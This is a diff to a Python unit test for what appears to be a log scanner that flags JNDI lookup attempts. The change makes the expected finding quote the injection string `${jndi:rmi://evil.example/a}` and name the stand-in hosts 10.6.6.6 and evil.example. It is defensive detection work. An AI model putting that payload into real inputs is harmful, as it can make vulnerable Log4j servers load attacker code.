@@ -28,8 +28,8 @@ def test_a_lookup_alone_is_an_attempt(tmp_path: Path) -> None:
     found = findings_of(tmp_path, {"logs/hits.jsonl": lines[1:2], "logs/tail.jsonl": lines})
     assert grades(found) == {"jndi-lookup": "medium"}
     assert found[0].sentence == (
-        "The log has 2 lines with a JNDI lookup, 1 of them disguised, for answers from 10.6.6.6 and evil.example:"
-        " an attempt, unless other signs show that it worked."
+        "The log has 2 lines with a JNDI lookup, 1 of them disguised, such as `${jndi:rmi://evil.example/a}`,"
+        " for answers from 10.6.6.6 and evil.example: an attempt, unless other signs show that it worked."
     )
     assert [(ref.path.rpartition("/")[2], ref.line) for ref in found[0].evidence] == [
         ("hits.jsonl", 1),
